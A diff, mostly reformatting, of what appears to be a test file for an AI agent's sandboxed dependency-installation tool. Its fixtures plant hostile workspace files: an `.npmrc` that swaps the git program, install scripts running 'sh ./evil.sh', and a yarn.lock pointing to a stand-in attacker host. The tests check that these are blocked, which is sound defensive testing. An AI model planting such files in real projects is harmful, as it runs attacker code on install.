@@ -1,6 +1,7 @@
 /**
- * Configuration of a package manager as an attack: files of the workspace that make `install_dependencies` run a program of the agent's while the
- * registry can be reached. Each attack works without the defence: npm itself shows that first, in the test's own directory.
+ * Configuration of a package manager as an attack: files of the workspace that make `install_dependencies` run a
+ * program of the agent's while the registry can be reached. Each attack works without the defence: npm itself shows
+ * that first, in the test's own directory.
  */
 import { execFileSync } from "node:child_process";
 import { chmodSync, existsSync, rmSync } from "node:fs";
@@ -16,7 +17,10 @@ const toolchains = prefix.startsWith("/usr") || prefix === "/" ? [] : [prefix];
 
 vi.setConfig({ testTimeout: 90_000 });
 
-/** A kernel over a workspace, with an internet of its own that answers for the one registry. `meanwhile` happens while a person decides. */
+/**
+ * A kernel over a workspace, with an internet of its own that answers for the one registry. `meanwhile` happens while a
+ * person decides.
+ */
 async function opened(meanwhile: () => void = () => undefined, scripts = false, backend = "bwrap") {
   const place = freshPlace();
   const internet = new Internet();
@@ -41,12 +45,18 @@ async function opened(meanwhile: () => void = () => undefined, scripts = false, 
   return { place, internet, install };
 }
 
-/** A project with a dependency from git that its lock file keeps quiet about, and a program that stands for git if anybody obeys `.npmrc`. */
+/**
+ * A project with a dependency from git that its lock file keeps quiet about, and a program that stands for git if
+ * anybody obeys `.npmrc`.
+ */
 function plantGit(place: Place): { readonly ran: string } {
   const dependencies = { x: "git+ssh://git@host.example/x.git" };
   place.put("workspace/package.json", JSON.stringify({ name: "p", version: "1.0.0", dependencies }));
   const packages = { "": { name: "p", version: "1.0.0", dependencies } };
-  place.put("workspace/package-lock.json", JSON.stringify({ name: "p", version: "1.0.0", lockfileVersion: 3, requires: true, packages }));
+  place.put(
+    "workspace/package-lock.json",
+    JSON.stringify({ name: "p", version: "1.0.0", lockfileVersion: 3, requires: true, packages }),
+  );
   return { ran: plantProgram(place) };
 }
 
@@ -60,7 +70,12 @@ function plantProgram(place: Place): string {
 /** npm as it is without a kernel before it, as the kernel once started it; says whether it ran the program. */
 function npmAlone(place: Place, ran: string, configuration: string, ...options: readonly string[]): boolean {
   place.put("workspace/.npmrc", configuration.replaceAll("/workspace", place.workspace));
-  const env = { PATH: process.env["PATH"], HOME: place.base, npm_config_registry: "http://127.0.0.1:9", npm_config_fetch_retries: "0" };
+  const env = {
+    PATH: process.env["PATH"],
+    HOME: place.base,
+    npm_config_registry: "http://127.0.0.1:9",
+    npm_config_fetch_retries: "0",
+  };
   try {
     execFileSync("npm", ["ci", "--no-audit", "--no-fund", ...options], { cwd: place.workspace, env, stdio: "ignore" });
   } catch {
@@ -80,7 +95,10 @@ test("a `.npmrc` that names a program for git refuses the installation, and says
   expect(npmAlone(place, ran, GIT, "--ignore-scripts"), "the attack works where npm obeys the file").toBe(true);
   place.put("workspace/.npmrc", GIT);
   expect(await install()).toMatchObject({
-    error: { code: "NOT_SUPPORTED", message: "`.npmrc` sets `git` in line 1, which no installation obeys here; nothing was installed" },
+    error: {
+      code: "NOT_SUPPORTED",
+      message: "`.npmrc` sets `git` in line 1, which no installation obeys here; nothing was installed",
+    },
   });
   expect([existsSync(ran), internet.connected]).toEqual([false, []]);
 });
@@ -114,7 +132,10 @@ test("where the operator allows packages their scripts, the project's own still 
   const scripts = { preinstall: "sh ./evil.sh", install: "sh /workspace/evil.sh", prepare: "sh ./evil.sh" };
   place.put("workspace/package.json", JSON.stringify({ name, version, scripts }));
   const packages = { "": { name, version, hasInstallScript: true } };
-  place.put("workspace/package-lock.json", JSON.stringify({ name, version, lockfileVersion: 3, requires: true, packages }));
+  place.put(
+    "workspace/package-lock.json",
+    JSON.stringify({ name, version, lockfileVersion: 3, requires: true, packages }),
+  );
   expect(npmAlone(place, ran, "")).toBe(true);
   expect(await install()).toMatchObject({ status: "success", data: { installed: true } });
   expect(existsSync(ran)).toBe(false);
@@ -128,7 +149,10 @@ test("files of the workspace that are not judged do not exist for the installati
   place.put("workspace/yarn.lock", 'x@*:\n  version "1.0.0"\n  resolved "https://evil.example/x.tgz"\n');
   place.put("workspace/package.json", JSON.stringify({ name: "p", version: "1.0.0", packageManager: "yarn@99.0.0" }));
   const packages = { "": { name: "p", version: "1.0.0" } };
-  place.put("workspace/package-lock.json", JSON.stringify({ name: "p", version: "1.0.0", lockfileVersion: 3, requires: true, packages }));
+  place.put(
+    "workspace/package-lock.json",
+    JSON.stringify({ name: "p", version: "1.0.0", lockfileVersion: 3, requires: true, packages }),
+  );
   expect(await install()).toMatchObject({ status: "success", data: { installed: true } });
   expect(existsSync(ran)).toBe(false);
 });
